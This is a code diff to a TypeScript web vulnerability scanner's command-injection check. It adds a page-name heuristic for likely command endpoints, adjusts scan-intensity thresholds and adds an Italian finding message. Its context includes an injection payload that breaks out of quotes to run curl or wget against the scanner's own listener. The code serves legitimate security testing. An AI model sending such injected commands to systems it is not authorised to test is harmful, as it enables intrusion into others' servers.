@@ -1,8 +1,10 @@
+import { pageOf } from '@rocca/tools/web/scope';
 import { cweReference, scored } from '../../core/definition.ts';
 import { type OutputPayload, type Product, showsOutput } from '../attack/output.ts';
 import { proof, repeat, Trial } from '../attack/trial.ts';
 import { showsWait } from '../attack/wait.ts';
 import type { PointCheck, WebDefinition, WebSighting } from '../check.ts';
+import type { InjectionPoint } from '../crawl/point.ts';
 import { filled } from '../evidence.ts';
 
 const DEFINITION: WebDefinition = {
@@ -103,6 +105,13 @@ const waits = (value: string): ReadonlyArray<(seconds: number) => string> => [
 const NAMED_AS_COMMAND =
   /cmd|command|comando|exec|esegui|run|ping|host|ip\b|addr|domain|domini|dns|lookup|server|port|file|dir|path|percorso|shell|proc|daemon|log|backup|convert|format|zip|archiv|url|target|email|user/i;
 
+/** Pages whose work is often done by a program. */
+const PAGE_OF_A_COMMAND =
+  /ping|trace-?route|who-?is|lookup|diagnos|export|esporta|backup|archiv|convert|compress|shell|exec|command|comand/i;
+
+const mayBeCommand = ({ name, request: { url } }: InjectionPoint) =>
+  NAMED_AS_COMMAND.test(name) || PAGE_OF_A_COMMAND.test(pageOf(url).split('/').at(-1) ?? '');
+
 async function heardFrom(trial: Trial): Promise<WebSighting | null> {
   const { listener } = trial.tools;
   if (!listener) return null;
@@ -111,7 +120,7 @@ async function heardFrom(trial: Trial): Promise<WebSighting | null> {
     const url = listener.urlFor(token);
     const answer = await trial.send(inAllQuotes(trial.point.value, ';', `curl -s ${url}||wget -qO- ${url}`, ';#'));
     // An application that fetches addresses by itself is another weakness: then the request carries the rest as well.
-    const heard = await listener.heard(token, trial.atLeast('default') ? 1_500 : 300);
+    const heard = await listener.heard(token, trial.atLeast('medium') ? 1_500 : 300);
     return heard && !/%7c|wget|;|%3b/i.test(heard.head.split('\n', 1)[0] ?? '')
       ? { answer, url, from: heard.from }
       : null;
@@ -122,7 +131,13 @@ async function heardFrom(trial: Trial): Promise<WebSighting | null> {
   if (!again) return null;
   return trial.sighting(
     DEFINITION.key,
-    `The server ran a command that asked our listener for ${first.url} (from ${first.from}), and did so again for another address.`,
+    filled(
+      {
+        it: 'Il server ha eseguito un comando che ha chiesto {url} al nostro listener (da {from}), e lo ha fatto di nuovo per un altro indirizzo.',
+        en: 'The server ran a command that asked our listener for {url} (from {from}), and did so again for another address.',
+      },
+      { url: first.url, from: first.from },
+    ),
     [proof(first.answer, first.url), repeat(again.answer, again.url)],
   );
 }
@@ -144,7 +159,7 @@ export const commandInjection = {
   async attack(point, tools) {
     const trial = await Trial.begin(point, tools);
     if (!trial) return [];
-    const named = NAMED_AS_COMMAND.test(point.name);
+    const named = mayBeCommand(point);
     if (!named && trial.isIgnored && !trial.atLeast('default')) return [];
     const all = outputPayloads(point.value);
     for (const payload of trial.within(all.slice(0, mostPayloads(trial, named)))) {
@@ -163,7 +178,7 @@ export const commandInjection = {
   },
   async waitFor(point, tools) {
     const trial = await Trial.begin(point, tools);
-    if (!trial || !(NAMED_AS_COMMAND.test(point.name) || trial.atLeast('medium'))) return [];
+    if (!trial || !(mayBeCommand(point) || trial.atLeast('default'))) return [];
     const heard = await heardFrom(trial);
     if (heard) return [heard];
     const spellings = waits(point.value);
